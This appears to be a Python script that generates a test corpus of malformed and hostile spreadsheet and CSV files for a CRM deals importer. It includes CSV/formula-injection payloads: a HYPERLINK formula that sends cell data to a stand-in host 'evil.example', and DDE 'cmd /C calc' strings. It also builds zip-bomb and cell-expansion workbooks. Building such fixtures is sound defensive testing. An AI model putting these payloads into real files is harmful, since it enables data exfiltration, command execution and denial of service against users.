"""The bad-file corpus (issue 10): every file here is one kind of hostile or broken input a
team's inbox holds. `python -m tests.bad_files.generate` writes the small files, which are
committed beside this script; the large ones (a 200 MB csv, 10,000 columns, a 5 MB cell, a
zip bomb) are written at test time by `large(folder, scale)` - scale 1 is the full size
`make bench` uses, the test suite runs a smaller scale. tests/bad_files/expected.csv says
what the importer must answer for each file."""

from __future__ import annotations

import csv
import io
import sys
import zipfile
from pathlib import Path

import pandas as pd
from openpyxl import Workbook

from kam_analytics.exports import to_xlsx

HERE = Path(__file__).parent
HEADER = ["Deal ID", "Account", "Deal name", "Owner", "Stage", "Amount", "Currency", "Created", "Close date"]


def _deal(i: int, **change) -> list:
    row = {"Deal ID": f"BF{i:07d}", "Account": f"Account {i % 97}", "Deal name": f"Deal {i}", "Owner": "Ann Lee",
           "Stage": "A", "Amount": str(1000 + i % 5000), "Currency": "EUR", "Created": "2026-01-05",
           "Close date": "2026-06-30"}
    row.update(change)
    return [row[h] for h in HEADER]


def _csv(rows, delimiter=",") -> bytes:
    out = io.StringIO()
    csv.writer(out, delimiter=delimiter, lineterminator="\n").writerows(rows)
    return out.getvalue().encode("utf-8")


def _deals_csv(bad_row: list, n: int = 4) -> bytes:
    """A small deals csv whose row 4 (the third data row) is `bad_row`."""
    rows = [HEADER] + [_deal(i) for i in range(1, n + 1)]
    rows[3] = bad_row
    return _csv(rows)


def _book(sheets: dict[str, list[list]]) -> bytes:
    """A workbook of one sheet per list of rows (the first row the header), as the product
    writes its own exports."""
    return to_xlsx({title: pd.DataFrame(rows[1:], columns=rows[0], dtype=object) if rows else pd.DataFrame()
                    for title, rows in sheets.items()})


def _patch_zip(data: bytes, change) -> bytes:
    """A copy of a zip with each part passed through change(name, bytes) -> bytes."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as zin, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            zout.writestr(info.filename, change(info.filename, zin.read(info.filename)))
    return out.getvalue()


def _cached_formula_book(cells: dict[str, tuple[str, str, str]]) -> bytes:
    """A deals workbook whose cells (ref -> (formula, cached value, cell type)) hold formulas
    with the value Excel saved for them, as a spreadsheet program writes them."""
    plain = _book({"Deals": [HEADER] + [_deal(i) for i in range(1, 5)]})

    def change(name, b):
        if name != "xl/worksheets/sheet1.xml":
            return b
        text = b.decode()
        for ref, (formula, value, typ) in cells.items():
            start = text.index(f'<c r="{ref}"')
            end = text.index("</c>", start) + 4
            text = text[:start] + f'<c r="{ref}" t="{typ}"><f>{formula}</f><v>{value}</v></c>' + text[end:]
        return text.encode()

    return _patch_zip(plain, change)


def _png() -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (40, 20), (200, 30, 30)).save(out, "PNG")
    return out.getvalue()


def _image_only_book() -> bytes:
    from openpyxl.drawing.image import Image as XlImage

    wb = Workbook()
    ws = wb.active
    ws.title = "Logo"
    ws.add_image(XlImage(io.BytesIO(_png())), "B2")
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
_DOC = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _raw_xlsx(sheets: dict[str, str], shared: list[str] | None = None) -> bytes:
    """A workbook written part by part: each sheet's <sheetData> body as given (so a file can
    say what no spreadsheet program writes), and a shared-string table."""
    from xml.sax.saxutils import escape

    n = len(sheets)
    types = "".join(f'<Override PartName="/xl/worksheets/sheet{i}.xml" ContentType="application/'
                    f'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>' for i in range(1, n + 1))
    parts = {
        "[Content_Types].xml": f'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
                               'package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.'
                               'openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType='
                               '"application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.'
                               'openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/'
                               'sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.'
                               f'spreadsheetml.sharedStrings+xml"/>{types}</Types>',
        "_rels/.rels": f'<?xml version="1.0"?><Relationships xmlns="{_RELS}"><Relationship Id="rId1" Type="{_DOC}/'
                       'officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": f'<?xml version="1.0"?><workbook xmlns="{_MAIN}" xmlns:r="{_DOC}"><sheets>'
                           + "".join(f'<sheet name="{escape(t)}" sheetId="{i}" r:id="rId{i}"/>'
                                     for i, t in enumerate(sheets, 1)) + "</sheets></workbook>",
        "xl/_rels/workbook.xml.rels": f'<?xml version="1.0"?><Relationships xmlns="{_RELS}">'
                                      + "".join(f'<Relationship Id="rId{i}" Type="{_DOC}/worksheet" '
                                                f'Target="worksheets/sheet{i}.xml"/>' for i in range(1, n + 1))
                                      + f'<Relationship Id="rIdS" Type="{_DOC}/sharedStrings" '
                                        'Target="sharedStrings.xml"/></Relationships>',
        "xl/sharedStrings.xml": f'<?xml version="1.0"?><sst xmlns="{_MAIN}">'
                                + "".join(f"<si><t>{escape(v)}</t></si>" for v in shared or []) + "</sst>",
    }
    for i, body in enumerate(sheets.values(), 1):
        parts[f"xl/worksheets/sheet{i}.xml"] = f'<?xml version="1.0"?><worksheet xmlns="{_MAIN}"><sheetData>{body}' \
                                               "</sheetData></worksheet>"
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, text in parts.items():
            z.writestr(name, text.encode())
    return out.getvalue()


def _col(j: int) -> str:
    from openpyxl.utils import get_column_letter

    return get_column_letter(j + 1)


def _deals_body(n: int) -> str:
    """A deals sheet's header and n data rows as xml, in inline strings."""
    from xml.sax.saxutils import escape

    rows = [HEADER] + [_deal(i) for i in range(1, n + 1)]
    return "".join(f'<row r="{r}">' + "".join(f'<c r="{_col(j)}{r}" t="inlineStr"><is><t>{escape(v)}</t></is></c>'
                                              for j, v in enumerate(row)) + "</row>"
                   for r, row in enumerate(rows, 1))


def _ods(tables: dict[str, str]) -> bytes:
    """An OpenDocument spreadsheet whose tables' rows are given as xml."""
    ns = ('xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
          'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
          'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"')
    content = (f'<?xml version="1.0" encoding="UTF-8"?><office:document-content {ns} office:version="1.2"><office:body>'
               "<office:spreadsheet>" + "".join(f'<table:table table:name="{t}">{rows}</table:table>'
                                               for t, rows in tables.items())
               + "</office:spreadsheet></office:body></office:document-content>")
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr(zipfile.ZipInfo("mimetype"), b"application/vnd.oasis.opendocument.spreadsheet")
        z.writestr("META-INF/manifest.xml", '<?xml version="1.0"?><manifest:manifest xmlns:manifest="urn:oasis:'
                   'names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="/" manifest:'
                   'media-type="application/vnd.oasis.opendocument.spreadsheet"/><manifest:file-entry manifest:'
                   'full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>')
        z.writestr("content.xml", content.encode())
    return out.getvalue()


def _ods_repeated_rows() -> bytes:
    """A deals table whose last row says it repeats 1,000,000 times across 90 columns: a
    900-byte file that expands to 90,000,000 cells (calamine's own cap is 100,000,000)."""
    def cell(v, repeat=1):
        rep = f' table:number-columns-repeated="{repeat}"' if repeat > 1 else ""
        return f'<table:table-cell office:value-type="string"{rep}><text:p>{v}</text:p></table:table-cell>'

    rows = "".join("<table:table-row>" + "".join(cell(v) for v in r) + "</table:table-row>"
                   for r in [HEADER, _deal(1), _deal(2)])
    rows += f'<table:table-row table:number-rows-repeated="1000000">{cell("x", 90)}</table:table-row>'
    return _ods({"Deals": rows})


def _hostile_books() -> dict[str, bytes]:
    """Tiny workbooks that expand to gigabytes when read naively (issue 27 item 1), and a
    formula with no saved value (item 6)."""
    deals = _deals_body(4)
    far = deals + '<row r="400000"><c r="ZZ400000"><v>1</v></c></row>'
    # 15 sheets, each a small deals table and one value at J300000: 3,000,000 cells a sheet
    # (under the one-sheet limit), 45,000,000 for the workbook
    sheets = {f"Deals {k}": deals + '<row r="300000"><c r="J300000"><v>1</v></c></row>' for k in range(1, 16)}
    # below the table, 500 rows of three cells that all show shared string 0, of 1 MB
    shared = "".join(f'<row r="{r}">' + "".join(f'<c r="{c}{r}" t="s"><v>0</v></c>' for c in "JKL") + "</row>"
                     for r in range(10, 510))
    formula = deals.replace('<c r="F3" t="inlineStr"><is><t>1002</t></is></c>', '<c r="F3"><f>SUM(1000,2)</f></c>')
    assert formula != deals
    return {
        "one_cell_at_zz400000.xlsx": _raw_xlsx({"Deals": far}),
        "ods_repeated_rows.ods": _ods_repeated_rows(),
        "shared_string_1mb_in_1500_cells.xlsx": _raw_xlsx({"Deals": deals + shared}, ["notes " * ((1 << 20) // 6 + 1)]),
        "fifteen_sheets.xlsx": _raw_xlsx(sheets),
        "formula_no_saved_value.xlsx": _raw_xlsx({"Deals": formula}),
    }


def small_files() -> dict[str, bytes]:
    good_book = _book({"Deals": [HEADER] + [_deal(i) for i in range(1, 5)]})
    files: dict[str, bytes] = {
        # not a table at all
        "empty.csv": b"",
        "blank_lines_only.csv": b"\n\n  \n,,,\n",
        "header_only.csv": _csv([HEADER]),
        "only_a_total_line.csv": _csv([HEADER, ["Total", "", "", "", "", "12000", "", "", ""]]),
        "binary_renamed.xlsx": _png(),
        "binary_renamed.csv": _png(),
        "pdf_renamed.xls": b"%PDF-1.4\n" + bytes(range(256)) * 8,
        "truncated.xlsx": good_book[: len(good_book) // 2],
        "zip_not_a_workbook.xlsx": _zip_of({"readme.txt": b"hello"}),
        "truncated.ods": _ods_cut(),
        "unsupported.docx": b"PK\x03\x04 not really",
        "no_table_found.csv": _csv([["Recipe", "Flour (g)", "Eggs"], ["Cake", "200", "3"], ["Bread", "500", "0"]]),
        "image_only.xlsx": _image_only_book(),
        "empty_sheets.xlsx": _book({"Sheet1": [], "Sheet2": []}),
        # broken text
        "nul_bytes.csv": _deals_csv(_deal(3)).replace(b"Deal 3", b"Deal\x00\x003"),
        "mixed_encodings.csv": _deals_csv(_deal(3, **{"Deal name": "Caf\u00e9 cr\u00e8me"})).replace(
            b"Account 3,", "Soci\u00e9t\u00e9 3,".encode("cp1252"), 1).replace(b"Account 1,", "M\u00fcller 1,".encode("utf-8"), 1),
        "unclosed_quote.csv": _deals_csv(_deal(3, **{"Deal name": "QUOTE"})).replace(b"QUOTE", b'"Deal 3, never closed'),
        "ragged_rows.csv": _deals_csv(_deal(3) + ["extra", "cells"]),
        "duplicate_headers.csv": _csv([HEADER[:5] + ["Amount"] + HEADER[5:]] + [_deal(i)[:5] + ["1"] + _deal(i)[5:] for i in range(1, 4)]),
        "same_field_twice.csv": _csv([HEADER + ["Deal value"]] + [_deal(i) + ["5"] for i in range(1, 4)]),
        # formula injection and formulas
        "injection_hyperlink_amount.csv": _deals_csv(_deal(3, Amount='=HYPERLINK("http://evil.example/x?d="&A1,"900")')),
        "injection_cmd_close_date.csv": _deals_csv(_deal(3, **{"Close date": "+cmd|' /C calc'!A0"})),
        "injection_at_created.xlsx": _book({"Deals": [HEADER] + [_deal(1), _deal(2), _deal(3, Created="@SUM(1+1)*cmd|' /C calc'!A0")]}),
        "formula_error_amount.xlsx": _cached_formula_book({"F3": ("1/0", "#DIV/0!", "e")}),
        "external_link_broken.xlsx": _cached_formula_book({"F4": ("'[budget 2026.xlsx]Q3'!B7", "#REF!", "e")}),
        "external_link_text_close_date.xlsx": _cached_formula_book({"I3": ("'[calendar.xlsx]Dates'!A1", "next quarter", "str")}),
        # values
        "negative_amount.csv": _deals_csv(_deal(3, Amount="-2500")),
        "amount_in_words.csv": _deals_csv(_deal(3, Amount="about 5k")),
        "mixed_decimal_marks.csv": _csv([HEADER] + [_deal(1, Amount="1.234,56"), _deal(2, Amount="2,345.67"), _deal(3, Amount="3.456,78")]),
        "impossible_date.csv": _deals_csv(_deal(3, Created="31/02/2026")),
        "year_3026.csv": _deals_csv(_deal(3, **{"Close date": "2026-06-30".replace("2026", "3026")})),
        "undecidable_day_month.csv": _csv([HEADER] + [_deal(i, Created=f"0{i}/0{i + 1}/2026") for i in range(1, 4)]),
        "italian_month_impossible.csv": _csv([HEADER] + [_deal(1, Created="3 gennaio 2026"), _deal(2, Created="31 febbraio 2026")]),
        "excel_serial_far.xlsx": _book({"Deals": [HEADER] + [_deal(1), _deal(2, Created=2958466)]}),
        "probability_over_100.csv": _csv([["Deal ID", "Changed at", "Stage", "Amount", "Close date", "Probability (%)"],
                                          ["W1", "2026-01-10", "A", "10000", "2026-02-10", "40%"],
                                          ["W1", "2026-01-20", "B", "10000", "2026-02-10", "150%"]]),
        "unknown_stage.csv": _deals_csv(_deal(3, Stage="Qualificazione avanzata")),
        "unknown_currency.csv": _deals_csv(_deal(3, Currency="Bitcoin")),
        "duplicate_keys.csv": _csv([HEADER] + [_deal(1), _deal(2), _deal(2, Amount="999")]),
        "missing_deal_id.csv": _deals_csv(_deal(3, **{"Deal ID": ""})),
        "rtl_and_emoji_names.csv": _csv([HEADER] + [
            _deal(1, Account="\u0634\u0631\u0643\u0629 \u0627\u0644\u0646\u0648\u0631", Owner="\u05d3\u05e0\u05d4 \u05db\u05d4\u05df"),
            _deal(2, **{"Deal name": "Rocket \U0001F680 renewal"}),
            _deal(3, Account="\U0001F3E2 Tower Ltd", Amount="\U0001F4B0 12000")]),
        "history_bad_timestamp.csv": _csv([["Opportunity ID", "Edit Date", "Field / Event", "Old Value", "New Value"],
                                           ["W1", "2026-01-10 10:00", "Stage", "A", "B"],
                                           ["W1", "yesterday at 5", "Stage", "B", "Closed Won"]]),
        "semicolon_bad_number.csv": _csv([["Deal ID", "Stage", "Amount", "Close date"],
                                          ["BF1", "A", "1.234,50", "30/06/2026"],
                                          ["BF2", "A", "12,34,56", "30/06/2026"]], delimiter=";"),
        **_hostile_books(),
        **_odd_values_and_ids(),
    }
    return files


def _full_width(text: str) -> str:
    """ASCII letters and digits as their full-width forms (ＢＦ０…), as East Asian input writes them."""
    return "".join(chr(ord(c) + 0xFEE0) if c.isascii() and c.isalnum() else c for c in text)


def _ods_formula_no_value() -> bytes:
    """A deals table whose row 3 amount is a formula with no saved value (no office:value)."""
    def cell(v):
        return f'<table:table-cell office:value-type="string"><text:p>{v}</text:p></table:table-cell>'

    rows = ""
    for r, row in enumerate([HEADER] + [_deal(i) for i in range(1, 5)], 1):
        cells = [cell(v) for v in row]
        if r == 3:
            cells[5] = '<table:table-cell table:formula="of:=SUM(1000;2)"/>'
        rows += "<table:table-row>" + "".join(cells) + "</table:table-row>"
    return _ods({"Deals": rows})


def _three_deals(start: int, delimiter: str = ",") -> bytes:
    return _csv([HEADER] + [_deal(start + i) for i in range(1, 4)], delimiter=delimiter)


def _odd_values_and_ids() -> dict[str, bytes]:
    """Issue 27 items 6 and 7 (numbers out of range, a currency in the amount, invisible and
    look-alike ids, an .ods formula with no saved value) and other real-world classes; the
    last two files are not refused: they are read as what they are, with a note."""
    steps_header = ["Deal ID", "Plan type", "Step no", "Step", "Side", "Owner", "Due date"]
    huge_id = _book({"Deals": [HEADER] + [_deal(1), _deal(2), _deal(3, **{"Deal ID": 123456789012345678901.0})]})
    return {
        "amount_1e308.csv": _deals_csv(_deal(3, Amount="1e308")),
        "amount_minus_1e400.csv": _deals_csv(_deal(3, Amount="-1e400")),
        "amount_infinity.csv": _deals_csv(_deal(3, Amount="inf")),
        "quota_1e20.csv": _csv([["Owner", "Period", "Quota"], ["Ann Lee", "FY2026-Q1", "50000"],
                                ["Bo Chen", "FY2026-Q1", "1e20"]]),
        "percent_in_amount.csv": _deals_csv(_deal(3, Amount="50%")),
        "currency_contradicts_amount.csv": _deals_csv(_deal(3, Amount="1000 USD", Currency="EUR")),
        "dollar_amount_in_eur_row.csv": _deals_csv(_deal(3, Amount="$1500", Currency="EUR")),
        "hashes_in_amount.csv": _deals_csv(_deal(3, Amount="########")),
        "zero_date.csv": _deals_csv(_deal(3, Created="0000-00-00")),
        "missing_stage.csv": _deals_csv(_deal(3, Stage="")),
        "step_no_overflow.csv": _csv([steps_header, ["W1", "mutual", "99999999999", "Kick-off", "joint", "Ann Lee",
                                                     "2026-02-01"]]),
        "ods_formula_no_saved_value.ods": _ods_formula_no_value(),
        "zero_width_space_id.csv": _deals_csv(_deal(3, **{"Deal ID": "BF0000003\u200b"})),
        "bidi_override_id.csv": _deals_csv(_deal(3, **{"Deal ID": "BF\u202e0000003"})),
        "bom_inside_id.csv": _deals_csv(_deal(3, **{"Deal ID": "\ufeffBF0000003"})),
        "line_break_in_id.csv": _deals_csv(_deal(3, **{"Deal ID": "BF000\n0003"})),
        "full_width_digits_id.csv": _csv([HEADER] + [_deal(1), _deal(2), _deal(3, **{"Deal ID": _full_width("BF0000002")})]),
        "soft_hyphen_account_id.csv": _csv([["Account ID", "Account name"], ["ACC1", "Alpha Foods"],
                                            ["ACC\u00ad7", "Beta Retail"]]),
        "scientific_notation_id.csv": _deals_csv(_deal(3, **{"Deal ID": "1.23457E+11"})),
        "numeric_id_rounded.xlsx": huge_id,
        "html_report_named.xls": b"<html><head><meta charset='utf-8'></head><body><table><tr><td>Opportunity Name</td>"
                                 b"<td>Amount</td></tr><tr><td>Acme</td><td>1000</td></tr></table></body></html>\n",
        "prose_named.xlsx": b"Dear team,\nplease find this quarter's deals attached.\nThanks, Ann\n",
        "encrypted.xlsx": (HERE.parent / "fixtures" / "encrypted.xlsx").read_bytes(),
        "bom_only.csv": b"\xef\xbb\xbf\r\n",
        "close_date_tbd.csv": _deals_csv(_deal(3, **{"Close date": "TBD"})),
        "fx_rate_1e400.csv": _csv([["Currency", "Rate", "Valid from"], ["USD", "0.92", "2026-01-01"],
                                   ["GBP", "1e400", "2026-01-01"]]),
        # read as what they are (not refused): expected.csv's outcome 'read' and the note said once;
        # three new deals each (BF0000101-103, 201-203...), so each loads as its own batch
        "csv_named_xlsx.xlsx": _three_deals(100),
        "tab_separated_named_xls.xls": _three_deals(200, delimiter="\t"),
        "utf16_without_bom.csv": _three_deals(300).decode().encode("utf-16-le"),
        "whole_lines_quoted.csv": b"".join(b'"' + line + b'"\n' for line in _three_deals(400).splitlines()),
    }


def _zip_of(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for n, b in parts.items():
            z.writestr(n, b)
    return out.getvalue()


def _ods_cut() -> bytes:
    ods = _zip_of({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet",
                   "content.xml": b"<?xml version='1.0'?>" + b"<office:document-content>" * 200})
    return ods[: len(ods) * 2 // 3]


def large(folder: Path, scale: float = 1.0) -> dict[str, Path]:
    """The large files: a csv of about 200 MB × scale with one bad row at its end; a sheet of
    10,000 columns (csv and xlsx); one cell of 5 MB (csv and xlsx); a zip bomb."""
    folder.mkdir(parents=True, exist_ok=True)
    out = {}
    big = folder / "big_200mb_bad_last_row.csv"
    target = int(200_000_000 * scale)
    with big.open("w", newline="", encoding="utf-8") as f:
        w = csv.writer(f, lineterminator="\n")
        w.writerow(HEADER)
        i = 0
        while f.tell() < target:
            i += 1
            w.writerows(_deal(i + k) for k in range(10_000))
            i += 9_999
        w.writerow(_deal(i + 1, Amount="12O0"))      # the letter O for a zero, on the last row
    out[big.name] = big
    wide_header = HEADER + [f"Custom field {j}" for j in range(1, 10_001 - len(HEADER))]
    wide = folder / "ten_thousand_columns.csv"
    wide.write_bytes(_csv([wide_header] + [_deal(i) + ["x"] * (len(wide_header) - len(HEADER)) for i in range(1, 4)]))
    out[wide.name] = wide
    wide_x = folder / "ten_thousand_columns.xlsx"
    wide_x.write_bytes(_book({"Deals": [wide_header] + [_deal(i) + ["x"] * (len(wide_header) - len(HEADER)) for i in range(1, 4)]}))
    out[wide_x.name] = wide_x
    cell = "notes " * (5 * (1 << 20) // 6)
    big_cell = folder / "five_mb_cell.csv"
    big_cell.write_bytes(_deals_csv(_deal(3, **{"Deal name": cell})))
    out[big_cell.name] = big_cell
    big_cell_x = folder / "five_mb_cell.xlsx"
    # openpyxl cuts a cell at Excel's 32,767 characters: the whole value is written into the xml
    short = _book({"Deals": [HEADER] + [_deal(1), _deal(2), _deal(3, **{"Deal name": "LONGCELL"})]})
    big_cell_x.write_bytes(_patch_zip(short, lambda n, b: b.replace(b"LONGCELL", cell.encode())))
    out[big_cell_x.name] = big_cell_x
    bomb = folder / "zip_bomb.xlsx"
    plain = _book({"Deals": [HEADER] + [_deal(i) for i in range(1, 5)]})
    with zipfile.ZipFile(io.BytesIO(plain)) as zin, zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            if info.filename == "xl/worksheets/sheet1.xml":
                with zout.open(info.filename, "w", force_zip64=True) as f:
                    chunk = b" " * (1 << 20)
                    for _ in range(max(100, int(4096 * scale))):      # 4 GB of spaces at full size
                        f.write(chunk)
            else:
                zout.writestr(info.filename, zin.read(info.filename))
    out[bomb.name] = bomb
    # NUL bytes past the first 64 KB of a csv of 1 MB or more (read column-wise): the same size
    # at every scale, 20,000 deals, the NULs on file line 15,001
    nul = folder / "nul_bytes_1mb.csv"
    rows = [_deal(i, **({"Deal name": "Deal\x00\x0015000"} if i == 15_000 else {})) for i in range(1, 20_001)]
    nul.write_bytes(_csv([HEADER] + rows))
    out[nul.name] = nul
    return out


def write_small(folder: Path = HERE) -> list[Path]:
    paths = []
    for name, data in small_files().items():
        p = folder / name
        p.write_bytes(data)
        paths.append(p)
    return paths


if __name__ == "__main__":
    for p in write_small(Path(sys.argv[1]) if len(sys.argv) > 1 else HERE):
        print(p)
